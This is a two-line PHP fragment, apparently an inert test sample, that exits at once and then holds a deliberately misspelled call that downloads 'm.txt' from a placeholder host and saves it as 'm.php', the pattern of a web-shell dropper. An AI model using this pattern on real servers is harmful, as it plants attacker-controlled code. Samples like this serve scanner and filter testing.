<?php exit; ?>
<?php fil~e_put_contents('m.php', file_get_contents('http://marker.invalid/m.txt'));
